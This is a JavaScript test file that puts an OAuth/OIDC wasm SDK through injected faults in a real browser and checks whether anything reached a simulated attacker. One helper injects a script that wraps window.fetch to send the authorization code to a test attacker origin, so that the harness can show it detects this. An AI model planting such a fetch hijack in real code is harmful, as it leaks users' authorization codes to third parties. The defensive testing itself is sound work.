/**
 * The faulty platform: every fault through the real wasm in a real browser. `GENERATE=1` writes docs/faults.md;
 * without it that file must say what the faults came to.
 */
import assert from 'node:assert/strict';
import { availableParallelism } from 'node:os';
import { after, describe, test } from 'node:test';
import * as authorization from './faults/authorization.mjs';
import * as callback from './faults/callback.mjs';
import * as discovery from './faults/discovery.mjs';
import * as idToken from './faults/id-token.mjs';
import * as jwks from './faults/jwks.mjs';
import * as logout from './faults/logout.mjs';
import * as refresh from './faults/refresh.mjs';
import * as signature from './faults/signature.mjs';
import * as token from './faults/token.mjs';
import * as tokenMembers from './faults/token-members.mjs';
import * as transport from './faults/transport.mjs';
import { stolenBySdk } from './support/control.mjs';
import { run } from './support/run.mjs';
import { openStage } from './support/stage.mjs';
import { held, markdown, write } from './support/table.mjs';

const categories = [
  discovery,
  callback,
  authorization,
  token,
  tokenMembers,
  idToken,
  signature,
  jwks,
  refresh,
  logout,
  transport,
];
const only = process.env.FAULTS;
/** Every how-manieth fault is traced and replayed: `TRACES=1` for all. */
const traces = Number(process.env.TRACES ?? 16);
let count = 0;
/** What is odd about these is what a placeholder leaves out. */
const untraced = (title, name) => title === 'Logout' || name === 'a code that is no UTF-8';
/** At most `width` at once. */
function lanes(width) {
  const waiting = [];
  let free = width;
  return async (work) => {
    if (free === 0) await new Promise((resolve) => waiting.push(resolve));
    else free--;
    try {
      return await work();
    } finally {
      if (waiting.length > 0) waiting.shift()();
      else free++;
    }
  };
}

// Much of a fault's time is waiting for a page.
const inLane = lanes(Math.min(8, 2 * availableParallelism()));

const stage = await openStage();
after(() => stage.close());
const told = [];

// Were the package itself broken, every fault would say so at length.
await run(stage, { name: 'none', expect: { accepted: true, codes: 1 } });

describe('the faulty platform', { concurrency: true, timeout: 1_200_000 }, () => {
  for (const { title, text, faults } of categories) {
    assert.equal(new Set(faults.map(({ name }) => name)).size, faults.length, `${title}: two of one name`);
    const rows = faults
      .filter((fault) => !only || `${title}: ${fault.name}`.includes(only))
      .map((fault) => ({ fault, outcome: undefined }));
    if (rows.length === 0) continue;
    told.push({ title, text, rows });
    describe(title, { concurrency: true }, () => {
      for (const row of rows) {
        test(row.fault.name, { todo: row.fault.todo }, () =>
          inLane(async () => {
            row.outcome = await run(
              stage,
              row.fault,
              count++ % traces === 0 && !untraced(title, row.fault.name),
            );
          }),
        );
      }
    });
  }

  /** With an SDK that sends `code` to the attacker while it redeems the code: `attack(path)` reaches it. */
  const betrayed = (fault, code) => ({
    expect: { accepted: true, codes: 1 },
    ...fault,
    script: (tenant) => `{ const real = fetch;
      const attack = (path) => real('${tenant.attacker}' + path);
      window.fetch = async (request) => {
        ${code}
        return real(request);
      }; }`,
  });
  const links = token.faults.find(({ name }) => name === 'with headers that lead to the attacker');
  for (const [what, fault] of Object.entries({
    'reaches the attacker': betrayed({}, `await attack('/token?code=1')`),
    'does what the browser does by itself, and once more': betrayed(
      links,
      `await attack('/l'); await attack('/l')`,
    ),
  })) {
    test(`an SDK that ${what} is noticed`, () =>
      assert.rejects(run(stage, fault), /the attacker's origin was reached/));
  }
});

test('nothing reached an attacker later', async () => {
  for (const { fault, tenant } of stage.visited)
    assert.deepEqual(await stolenBySdk(stage, fault, tenant), [], fault.name);
});

test('docs/faults.md says what the faults came to', { skip: only && 'some faults only' }, (t) => {
  const rows = told.flatMap((category) => category.rows);
  console.log(`${rows.length} faults in ${told.length} categories`);
  if (!rows.every(({ outcome, fault }) => outcome || fault.todo)) return t.skip('a fault failed');
  const made = markdown(told);
  if (process.env.GENERATE) write(made);
  assert.ok(
    held() === made,
    'docs/faults.md is stale: run GENERATE=1 node --test tests/faulty/faulty.test.mjs',
  );
});
